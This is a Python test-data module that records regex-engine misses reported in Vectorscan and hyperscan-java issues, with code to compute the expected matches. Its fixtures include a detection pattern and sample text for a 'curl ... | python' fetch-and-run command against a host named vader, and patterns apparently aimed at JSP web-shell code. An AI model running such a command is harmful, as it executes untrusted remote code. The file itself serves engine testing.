"""Misses that others have reported of engines' regexes, for `ttpc doctor` to try and for known answers to hold."""

import re
from collections.abc import Iterator
from typing import NamedTuple

from ttpc_runtime.attest import PADDINGS, Answer


class Published(NamedTuple):
    """A miss of regexes that share a database, as it was reported."""

    report: str
    """Repository and issue."""
    flags: re.RegexFlag
    """Of all the patterns."""
    patterns: tuple[bytes, ...]
    text: bytes

    @property
    def link(self) -> str:
        return f"https://github.com/{self.report.replace('#', '/issues/')}"

    def placed(self) -> Iterator[bytes]:
        """The text as it was published, and behind each of the other paddings."""
        return (b"x" * padding + self.text for padding in PADDINGS)

    def answers(self) -> tuple[Answer, ...]:
        """Numbers of the patterns that `re` finds, wherever the text stands."""
        regexes = [re.compile(pattern, self.flags) for pattern in self.patterns]
        return tuple(
            Answer(text, frozenset(n for n, regex in enumerate(regexes) if regex.search(text)))
            for text in self.placed()
        )


PUBLISHED = (
    Published(
        "VectorCamp/vectorscan#382",
        re.DOTALL,
        (rb"curl.*\|\s*python",),
        b"curl http://vader:8080/ 2>&1 | python",
    ),
    Published(
        "VectorCamp/vectorscan#358",
        re.NOFLAG,
        (
            rb"<%[\s\S]+%>",
            (
                rb"<[^<>]+:(include|forward|invoke|doBody|getProperty|setProperty|useBean|plugin|element"
                rb"|attribute|body|fallback|params|param|output|root)"
            ),
            rb"[\$#]{[\s\S]+\([\s\S]*\)[\s\S]*}",
        ),
        b"<%out.print();int a%>",
    ),
    Published(
        "gliwka/hyperscan-java#231",
        re.IGNORECASE,
        (
            rb"^.*TAPIOCA.*EX.*$",
            rb"^.*BOBA.*GUY.*$",
            rb"^.*PAYPAL.*JACQUES.*MARI.*$",
            rb"^GUCCI FRANCE.*$",
            rb"^PAYPAL \*YVESSAINTL.*$",
            rb"^DD.*FIREHO 855-973-1040$",
            rb"^.*XING.*FU.*TAN.*$",
        ),
        b"TAPIOCA HOUSE TUXTLA GUTIER MEX",
    ),
)
"""Vectorscan 5.4.12 shows all of them, 5.4.11 none."""
